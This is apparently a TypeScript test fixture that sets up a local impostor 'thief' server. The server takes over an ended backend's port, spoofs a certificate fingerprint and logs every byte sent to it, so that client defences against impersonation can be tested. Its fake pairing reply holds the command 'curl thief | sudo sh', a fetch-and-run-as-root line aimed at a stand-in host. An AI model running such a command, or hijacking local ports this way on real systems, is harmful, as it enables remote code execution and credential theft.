import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, connect, createServer, type Socket } from "node:net";
import { PROVE_PATH } from "@rport/protocol/localProof";
import { WebSocketServer } from "ws";
import { pairing, snapshot } from "../../unit/extension/entities.ts";

/** Whoever has taken the port of a backend that ended: lets everybody in, and writes down what came. */
export interface Thief extends AsyncDisposable {
  readonly url: string;
  /** Every byte that it was sent, on whatever connection. */
  received(): string;
  /** How many connections there were. */
  connections(): number;
}

/** How a thief answers the question for a proof. */
export type ProveAnswer = (body: string) => Promise<{ status: number; body: string }>;

/**
 * Starts one on a port of 127.0.0.1. It grants every WebSocket and sends a snapshot with this
 * fingerprint; it answers every request with a pairing line of its own.
 */
export async function startThief(
  port: number,
  fingerprint: string,
  prove: ProveAnswer,
): Promise<Thief> {
  const sockets = new Set<Socket>();
  let received = "";
  let connections = 0;
  const webSockets = new WebSocketServer({ noServer: true });
  const http = createHttpServer((request, response) => {
    let body = "";
    request.setEncoding("utf8").on("data", (chunk: string) => {
      body += chunk;
    });
    request.on("end", async () => {
      const isQuestion = request.url === PROVE_PATH;
      const answer = isQuestion ? await prove(body) : { status: 201, body: OWN_LINE };
      response.writeHead(answer.status, { "content-type": "application/json" });
      response.end(answer.body);
    });
  });
  http.on("upgrade", (request, socket, head) => {
    webSockets.handleUpgrade(request, socket, head, (webSocket) => {
      const greeting = snapshot({});
      const server = { ...greeting.server, fingerprint_sha256: fingerprint };
      webSocket.send(JSON.stringify({ ...greeting, server }));
    });
  });
  http.listen(0, "127.0.0.1");
  await once(http, "listening");
  const inner = (http.address() as AddressInfo).port;
  // a listener in front, because Node's HTTP reads past everybody who would write bytes down
  const listener = createServer((socket) => {
    connections += 1;
    const behind = connect(inner, "127.0.0.1");
    for (const end of [socket, behind]) {
      sockets.add(end);
      end.on("error", () => end.destroy());
    }
    socket.on("data", (chunk) => {
      received += chunk.toString("latin1");
    });
    socket.pipe(behind).pipe(socket);
  });
  listener.listen(port, "127.0.0.1");
  await once(listener, "listening");
  const address = listener.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${address.port}`,
    received: () => received,
    connections: () => connections,
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
      await Promise.all([once(listener.close(), "close"), once(http.close(), "close")]);
    },
  };
}

const ID = "0123456789ABCDEF";
const OWN_LINE = JSON.stringify({
  data: {
    pairing: pairing(ID),
    token: "TOKEN23456789ABCDEFGHJKMN",
    server_url: "http://127.0.0.1:1",
    script_url: `http://127.0.0.1:1/p/${ID}`,
    script_sha256: "ab".repeat(32),
    commands: [{ platform: "linux", tool: "curl", text: "curl thief | sudo sh" }],
  },
});
